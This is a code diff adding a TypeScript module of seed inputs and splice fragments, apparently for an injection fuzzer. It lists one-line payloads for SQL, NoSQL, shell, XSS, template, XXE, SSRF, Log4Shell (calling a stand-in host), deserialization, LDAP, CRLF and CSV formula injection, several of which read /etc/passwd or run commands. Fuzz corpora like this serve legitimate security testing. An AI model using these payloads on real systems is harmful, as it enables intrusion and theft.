@@ -1,0 +1,56 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks look like this.
+/** Texts to start from when no corpora are at hand: one or more for each interpreter and encoding. */
+export const seedTexts: readonly string[] = [
+  "1 or 1=1 -- ",
+  "' UNION/**/SELECT 0x61,char(97),null FROM users#",
+  "'||(select case when 1=1 then pg_sleep(5) end)||'",
+  '{"$where":"this.a==1||sleep(9)"}',
+  "a;cat${IFS}/etc/passwd|base64 -d",
+  "$(echo `id`) && c^m^d /c %COMSPEC%",
+  '<svg/onload=alert&#40;1&#41;><a href="jav&#x09;ascript:alert(1)">',
+  "{{''.__class__.__mro__[1].__subclasses__()}}<%= 7*7 %>${7*7}#{1}",
+  "..%252f..%c0%af..\\..//etc/passwd%00.png",
+  "http://[::ffff:169.254.169.254]@0x7f.1:80/latest/meta-data#@a.example",
+  "${jndi:${lower:l}${::-d}ap://a.example/x}",
+  "() { :;}; /bin/id",
+  'O:8:"stdClass":1:{s:1:"a";a:1:{i:0;i:1;}}',
+  "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+  "*)(uid=*))(|(uid=*",
+  "' or count(//user[name/text()='a'])=1 or 'a'='",
+  '<!DOCTYPE a [<!ENTITY % b SYSTEM "file:///etc/passwd">%b;]><a>&c;</a>',
+  "a\r\nSet-Cookie: b=c\r\n\r\nHTTP/1.1 200 OK",
+  '=cmd|"/c calc"!A1',
+  "__proto__[constructor][prototype]=1",
+  "<!--#exec cmd='id'--><esi:include src=//a.example/>",
+  "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIG9yIDE9MSJ9.",
+  "O'Brien & Sons, Zürich — “fine” 日本語 العربية",
+  '{"a":[1,{"b":"{\\"c\\":\\"\\\\u0027 or 1=1\\"}"}],"a":null}',
+  'query Q($a:ID!){b:node(id:$a){...F @include(if:true)}} fragment F on A{c(d:"\' or 1")}',
+  "<s:Envelope xmlns:s='urn:a'><s:Body><![CDATA[<a>' or 1</a>]]></s:Body></s:Envelope>",
+  "a=1&a=2&b[c][]=d;e=%u0027%e2%80%99+%ff",
+];
+
+/** What is spliced in: signs that open, close, escape or end something for some reader. */
+export const pieces: readonly string[] = [
+  ..."' \" ` ( ) [ ] { } < > = + - * / \\ % $ # @ ; : , . ! ? & | ^ ~ _".split(" "),
+  ..."-- /* */ /*! ${ $( {{ }} <% %> <!-- --> <![CDATA[ ]]> &lt; &#60; &#x3c; \\u003c \\x3c %3c %253c %u003c %c0%ae".split(
+    " ",
+  ),
+  ..."../ ..\\ // http:// file: data:;base64, javascript: select union or and null true NaN 1e999 -0 0x".split(
+    " ",
+  ),
+  " ",
+  "\t",
+  "\r\n",
+  "\r\n\r\n",
+  "\0",
+  "\uFFFD",
+  "\uD800",
+  "\uDC00",
+  "＜",
+  "’",
+  "İ",
+  "\u202E",
+  "\u200B",
+  "é",
+];
